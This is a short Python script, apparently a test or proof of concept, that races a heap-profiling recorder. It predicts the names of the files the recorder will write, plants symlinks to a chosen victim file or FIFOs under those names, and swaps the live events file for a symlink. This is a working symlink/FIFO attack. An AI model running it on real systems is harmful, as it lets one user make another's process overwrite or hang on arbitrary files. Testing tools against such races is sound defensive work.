"""Plants links to other files, or FIFOs, under all names that a recording may use next, as the user who owns the
directory. Usage: planted.py DIRECTORY VICTIM|fifo SECONDS"""
import os
import re
import sys
import time

directory, victim, end = sys.argv[1], sys.argv[2], time.time() + float(sys.argv[3])
names = set()
while time.time() < end:
    found = set()
    for f in os.listdir(directory):
        if m := re.match(r"(.*)[._](\d+)\.(?:events\.jsonl|\d+\.heap(?:\.gz)?|0\.i0\.heap)$", f):
            found.add(m.groups())
        if f.endswith(".events.jsonl") and victim != "fifo" and not os.path.islink(directory + "/" + f):
            try:
                os.rename(directory + "/" + f, directory + "/.moved")  # and something else in its place
                os.symlink(victim, directory + "/" + f)
            except OSError:
                pass  # it is gone: the recording has ended
    if found:
        names |= {"vdso.so", "heaplapse.manifest.jsonl.tmp", "names.heaplapse.tar.zst"}
    for name, pid in found:
        for k in range(1, 60):
            snapshot = "%s_%s.%04d.heap" % (name, pid, k)
            jemalloc = "%s.%s.%d.i%d.heap" % (name, pid, k - 1, k - 1)
            names |= {base + end for base in (snapshot, jemalloc) for end in ("", ".tmp", ".gz", ".gz.tmp")}
        names |= {"%s.%s.%s" % (name, pid, end) for end in ("frames.jsonl", "perf.map", "maps", "jitdump", "holders.jsonl")}
    for name in names:
        try:
            os.mkfifo(directory + "/" + name) if victim == "fifo" else os.symlink(victim, directory + "/" + name)
        except OSError:
            pass
    time.sleep(0.001)
